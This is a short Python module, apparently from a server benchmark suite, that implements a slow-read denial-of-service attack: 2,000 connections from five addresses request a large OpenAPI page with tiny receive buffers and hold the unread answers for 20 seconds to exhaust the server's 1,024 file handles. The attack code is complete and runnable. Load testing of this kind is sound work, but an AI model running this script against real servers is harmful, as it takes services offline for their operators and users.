"""Requests whose answers nobody reads, from five addresses, at a server that may open 1,024 files."""

from __future__ import annotations

import asyncio
import socket
from contextlib import suppress

from benchmarks.attacks.target import Target, local_address, pause, together

FILES = 1_024
CONNECTIONS, ADDRESSES = 2_000, 5
SMALL = 2048
"""Bytes that the attacker's side takes before it is full: the rest of the answer stays with the server."""
KEPT = 20.0
"""Seconds that each keeps its answer waiting."""


async def attack(target: Target, stop: asyncio.Event) -> None:
    """Each asks for a large page, and for the connection to be closed after it."""
    await together(*(ask(target, stop, number) for number in range(CONNECTIONS)))


async def ask(target: Target, stop: asyncio.Event, number: int) -> None:
    """One of them."""
    await pause(stop, 2.0 * number / CONNECTIONS)
    while not stop.is_set():
        with socket.socket() as caller, suppress(OSError):
            caller.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL)
            caller.bind((local_address(number % ADDRESSES), 0))
            caller.setblocking(False)
            loop = asyncio.get_running_loop()
            await loop.sock_connect(caller, (target.host, target.port))
            head = f"GET /api/openapi.json HTTP/1.1\r\nHost: {target.address}\r\nConnection: close\r\n\r\n"
            await loop.sock_sendall(caller, head.encode())
            await pause(stop, KEPT)
        await pause(stop, 1.0)
